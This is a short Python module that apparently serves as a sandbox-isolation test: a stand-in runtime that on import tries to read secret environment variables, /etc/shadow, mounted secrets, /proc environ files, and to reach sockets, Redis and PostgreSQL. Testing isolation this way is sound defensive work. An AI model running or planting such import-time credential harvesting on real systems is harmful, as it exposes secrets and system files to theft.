"""Exfiltration: environment, host files, a mounted secret, /proc of the parent, sockets, Redis, PostgreSQL."""
from ._honest import causal_mask, decode_step, emitted, prefill_logits  # noqa: F401  (hooks it does not replace)


def on_load():
    import os
    from . import _attacks as a
    T = a.TARGET
    got = {
        "env": {k: v for k, v in os.environ.items() if "SECRET" in k or "TOKEN" in k or "DATABASE" in k} or None,
        "shadow": a.read("/etc/shadow"),
        "secret_file": a.read(T["secret"]),
        "run_secrets": a.read("/run/secrets/" + os.path.basename(T["secret"])),
        "ppid_environ": a.read(f"/proc/{os.getppid()}/environ") if os.getppid() > 1 else None,
        "host_parent_environ": a.read(f"/proc/{T['parent_pid']}/environ"),
        "pid1_environ": a.read("/proc/1/environ") if b"TOKENGATE" in (a.read("/proc/1/environ") or b"") else None,
        "settings": a.read(T["settings"]),
        "tcp": a.tcp(T["port"]),
        "unix": a.unix(T["unix"]),
        "pg_unix_socket": a.postgres(T["marker"], host="/var/run/postgresql"),
        "redis": a.redis_set(T["marker"]),
        "postgres": a.postgres(T["marker"]),
        "write_model": a.write(T["model"]),  # bound read-only
        # (writing T["host_file"] lands in the sandbox's private /tmp; the test checks the host's)
        "_private_tmp_write": None if a.write(T["host_file"]) else None,
    }
    a.report(got)


# Attack at import time (the harness imports `runtime` in its hello): a failure is the revision's own.
on_load()


def on_load():  # noqa: F811 - the attack already ran
    pass
